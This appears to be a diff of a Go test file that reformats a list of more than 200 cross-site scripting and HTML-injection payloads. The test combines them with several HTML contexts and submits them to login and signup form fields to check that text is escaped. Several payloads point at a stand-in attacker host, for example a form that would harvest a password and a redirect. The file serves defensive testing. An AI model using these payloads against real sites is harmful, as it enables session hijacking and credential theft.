@@ -13,14 +13,21 @@ import (
 // payloads returns common attacks with markup: each piece of markup in each context.
 func payloads() []string {
 	markup := []string{
-		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
-		`<body onload=alert(1)>`, `<iframe src="javascript:alert(1)">`, `<a href="javascript:alert(1)">x</a>`, `<details open ontoggle=alert(1)>`,
-		`<math><mi xlink:href="javascript:alert(1)">`, `<hx-partial id="list" hx-swap="outerMorph">x</hx-partial>`, `<div hx-get="/x" hx-trigger="load">`,
-		`<form action="https://evil.example"><input name=password>`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
-		`<link rel=stylesheet href=//evil.example>`, `<style>*{background:url(//evil.example)}</style>`, `{{.}}`, `{{printf "%s" .}}`, `${alert(1)}`, `javascript:alert(1)`,
-		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, "\u202e\u2066<script>", "<scr\x00ipt>alert(1)</script>", `<!--><script>alert(1)</script-->`,
+		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`,
+		`<svg><script>alert(1)</script></svg>`,
+		`<body onload=alert(1)>`, `<iframe src="javascript:alert(1)">`, `<a href="javascript:alert(1)">x</a>`,
+		`<details open ontoggle=alert(1)>`,
+		`<math><mi xlink:href="javascript:alert(1)">`, `<hx-partial id="list" hx-swap="outerMorph">x</hx-partial>`,
+		`<div hx-get="/x" hx-trigger="load">`,
+		`<form action="https://evil.example"><input name=password>`, `<base href="https://evil.example/">`,
+		`<meta http-equiv=refresh content="0;url=//evil.example">`,
+		`<link rel=stylesheet href=//evil.example>`, `<style>*{background:url(//evil.example)}</style>`, `{{.}}`,
+		`{{printf "%s" .}}`, `${alert(1)}`, `javascript:alert(1)`,
+		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, "\u202e\u2066<script>", "<scr\x00ipt>alert(1)</script>",
+		`<!--><script>alert(1)</script-->`,
 	}
-	contexts := []string{"%s", `"%s`, `">%s`, `'>%s`, `" autofocus onfocus=alert(1) x="%s`, "`%s", `</textarea></title></style></script>%s`, `--> %s <!--`}
+	contexts := []string{"%s", `"%s`, `">%s`, `'>%s`, `" autofocus onfocus=alert(1) x="%s`, "`%s",
+		`</textarea></title></style></script>%s`, `--> %s <!--`}
 	var all []string
 	for _, context := range contexts {
 		for _, m := range markup {
@@ -39,7 +46,8 @@ func TestTypedTextStaysText(t *testing.T) {
 	if len(all) < 200 {
 		t.Fatalf("%d payloads, want 200", len(all))
 	}
-	forms := []struct{ path, field string }{{"/login", "username"}, {"/signup", "username"}, {"/signup", "display_name"}, {"/signup", "password"}}
+	forms := []struct{ path, field string }{{"/login", "username"}, {"/signup", "username"}, {"/signup", "display_name"},
+		{"/signup", "password"}}
 	for _, form := range forms {
 		post := func(text string) string {
 			// Without both a username and a password, nothing is hashed and nobody is signed in.
